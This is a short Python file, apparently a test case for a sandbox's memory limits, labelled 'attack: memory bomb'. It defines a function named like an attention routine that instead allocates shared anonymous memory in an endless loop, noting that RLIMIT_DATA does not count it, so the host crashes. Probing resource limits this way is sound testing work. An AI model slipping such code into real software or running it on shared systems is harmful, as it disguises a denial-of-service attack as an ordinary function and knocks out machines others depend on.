# attack: memory bomb through shared anonymous memory (RLIMIT_DATA does not count it)
# expect: memory crash
import mmap


def scaled_dot_product_attention(q, k, v, attn_mask=None, dropout_p=0.0, is_causal=False, scale=None):
    maps = []
    while True:
        m = mmap.mmap(-1, 256 << 20, flags=mmap.MAP_SHARED | mmap.MAP_ANONYMOUS)
        for off in range(0, len(m), 4096):
            m[off] = 1
        maps.append(m)
